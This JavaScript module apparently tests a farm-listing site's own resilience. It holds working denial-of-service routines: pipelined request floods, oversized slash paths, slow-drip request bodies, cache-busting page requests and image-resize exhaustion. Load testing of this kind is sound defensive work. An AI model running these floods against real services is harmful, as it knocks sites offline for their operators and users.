// @ts-check
/** Attacks that need no token, over plain connections. */
import { Agent } from 'node:http';
import net from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { ask, registration } from '../owner.mjs';
import { ask as askFrom } from './visitor.mjs';

/**
 * Manages connections from one address of this machine.
 * @param {string} origin of the site @param {string} localAddress
 */
export function connectionsFrom(origin, localAddress) {
  const { hostname, port } = new URL(origin);
  /** @type {Set<net.Socket>} */
  const open = new Set();
  const agent = new Agent({ keepAlive: true, localAddress });
  return {
    /** Requests a path on keep-alive connections. @param {string} path @returns {Promise<number>} status; 0: no response */
    ask: async (path) => (await askFrom(origin, path, agent)).status,
    /** Opens a connection and sends bytes immediately. @param {string} bytes @param {{ isRead?: boolean }} [how] */
    send(bytes, { isRead = true } = {}) {
      const socket = net.connect({ host: hostname, port: Number(port), localAddress });
      open.add(socket);
      socket.on('close', () => open.delete(socket)).on('error', () => {});
      if (isRead) socket.resume();
      socket.write(bytes, 'latin1');
      return socket;
    },
    /** Closes all of them. */
    leave: () => {
      agent.destroy();
      for (const socket of open) socket.destroy();
    },
  };
}
/** @typedef {ReturnType<typeof connectionsFrom>} Connections */
/** @typedef {Connections['send']} Send */
/** @typedef {{ point: number, name: string, run: (from: Connections, origin: string) => Promise<unknown> }} Attack */

/** Milliseconds of an attack that does not end by itself. */
const LONG = 12_000;
const many = (/** @type {number} */ count) => Array.from({ length: count }, (_, index) => index);
const get = (/** @type {string} */ path, last = false) =>
  `GET ${path} HTTP/1.1\r\nhost: localhost\r\n${last ? 'connection: close\r\n' : ''}\r\n`;
const closed = (/** @type {net.Socket} */ socket) =>
  new Promise((resolve) => socket.once('close', () => resolve(null)));

/** Sends 450 requests in one write and reads no responses. @param {Send} send */
async function pipeline(send) {
  const bytes = get('/').repeat(220) + get('/api/farms/1').repeat(230);
  const socket = send(bytes, { isRead: false });
  await wait(500);
  socket.destroy();
}

/** Requests a document with many slashes in its address. @param {Send} send @param {number} length */
const slashes = (send, length) => closed(send(get(`/farm${'/'.repeat(length)}x`, true)));

/**
 * Keeps requests open whose bodies arrive at one byte per second; reopens closed ones.
 * @param {Send} send @param {string[]} heads up to their bodies
 */
async function drip(send, heads) {
  const until = performance.now() + LONG;
  const line = async (/** @type {string} */ head) => {
    while (performance.now() < until) {
      const socket = send(`${head}\r\n\r\n{`);
      const timer = setInterval(() => socket.write(' '), 1000);
      await Promise.race([closed(socket), wait(until - performance.now())]);
      clearInterval(timer);
      await wait(200);
    }
  };
  await Promise.all(heads.map(line));
}

const post = (/** @type {string} */ path) =>
  `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 200`;

/** Registers a farm and returns its upload addresses. @param {string} origin @returns {Promise<string[]>} */
async function uploadAddresses(origin) {
  const headers = { 'content-type': 'application/json' };
  const body = JSON.stringify(registration('Attack Farm'));
  const { data: farm } = await ask(origin, '/api/farms', { method: 'POST', headers, body }, []);
  const wanted = { fileName: 'a.webp', fileType: 'image/webp', domain: 'farm', ownerId: farm?.id };
  const authorization = `Bearer ${farm?.accessToken}`;
  const init = { method: 'POST', headers: { ...headers, authorization }, body: JSON.stringify(wanted) };
  const tickets = many(20).map(() => ask(origin, `/api/farms/${farm?.id}/image/upload-url`, init, []));
  const addresses = (await Promise.all(tickets)).map(({ data }) => data?.uploadUrl ?? '').filter(Boolean);
  if (addresses.length === 0) throw new Error('the API returned no upload address');
  return addresses;
}

/** Lists addresses of covers in widths that are not drawn yet. @param {string} origin */
export async function undrawnCovers(origin) {
  const list = '/api/farmsearch/proximitysearch?latitude=43.65&longitude=-79.38&distance=2000&limit=50';
  const pages = many(5).map(async (page) => {
    const { data } = await ask(origin, `${list}&page=${page + 1}`, {}, []);
    return /** @type {{ coverImage: { url: string } | null }[]} */ (data?.items ?? []);
  });
  const widest = (await Promise.all(pages)).flat().flatMap(({ coverImage }) => coverImage?.url ?? []);
  return [...widest, ...widest.map((url) => url.replace('1920', '1280'))];
}

/** Requests undrawn covers on 230 connections, and repeats refused ones. @param {Connections} from @param {string} origin */
async function askForCovers({ ask }, origin) {
  const covers = await undrawnCovers(origin);
  const until = performance.now() + LONG;
  const line = async () => {
    for (let cover = covers.shift(); cover && performance.now() < until; cover = covers.shift())
      while ((await ask(cover)) !== 200 && performance.now() < until) await wait(200);
  };
  await Promise.race([Promise.all(many(230).map(line)), wait(LONG)]);
}

/** @param {number} index */
const distinctDocument = (index) =>
  [
    `/?visit=${index}`,
    `/search?q=word${index}`,
    `/farm/${1 + index}/x`,
    `/category/1?map=9/43.${index}/-79.4`,
  ][index % 4] ?? '/';

/** Makes a query of unused keys that fills an address of a given length. @param {number} bytes @param {number} visit */
const unknownKeys = (bytes, visit) =>
  many(bytes / 6)
    .map((key) => `${(key + 36 ** 3).toString(36)}=`)
    .join('&')
    .replace('=', `=${visit}`);

/** @type {Attack[]} */
export const ATTACKS = [
  { point: 1, name: '450 pipelined requests, unread, once', run: ({ send }) => pipeline(send) },
  {
    point: 1,
    name: 'the same twenty times',
    run: async ({ send }) => {
      for (const _ of many(20)) await pipeline(send);
    },
  },
  {
    point: 2,
    name: '4 KB and 8 KB of slashes',
    run: ({ send }) => Promise.all([slashes(send, 4096), slashes(send, 8192), slashes(send, 8192)]),
  },
  { point: 2, name: '100 KB of slashes', run: ({ send }) => slashes(send, 102_400) },
  {
    point: 3,
    name: '210 slow bodies to upload-url, no token',
    run: ({ send }) =>
      drip(
        send,
        many(210).map(() => post('/api/farms/1/image/upload-url')),
      ),
  },
  {
    point: 3,
    name: '210 slow uploads',
    run: async ({ send }, origin) => {
      const addresses = await uploadAddresses(origin);
      const put = (/** @type {string} */ path) =>
        `PUT ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: image/webp\r\ncontent-length: 500000`;
      await drip(
        send,
        many(210).map((index) => put(addresses[index % addresses.length] ?? '')),
      );
    },
  },
  {
    point: 4,
    name: '230 undrawn covers',
    run: askForCovers,
  },
  {
    point: 5,
    name: '500 documents on one connection',
    run: ({ send }) =>
      closed(
        send(
          many(500)
            .map((index) => get(distinctDocument(index), index === 499))
            .join(''),
        ),
      ),
  },
  {
    point: 5,
    name: '500 documents on 500 connections',
    run: ({ send }) =>
      Promise.all(
        many(500).map(async (index) => {
          const socket = send(get(distinctDocument(index), true));
          if (index % 3 === 0) await wait(100).then(() => socket.destroy());
          else await closed(socket);
        }),
      ),
  },
  {
    point: 6,
    name: '40 queries of 10 to 100 KB',
    run: ({ send }) =>
      Promise.all(
        many(40).map((index) => {
          const page = ['/search?q=farm&page=2', '/search?q=apple&page=2', '/category/1?', '/listing?'][
            index % 4
          ];
          const bytes = [10_000, 100_000, 100_000][index % 3] ?? 0;
          return closed(send(get(`${page}&${unknownKeys(bytes, index)}`, true)));
        }),
      ),
  },
];
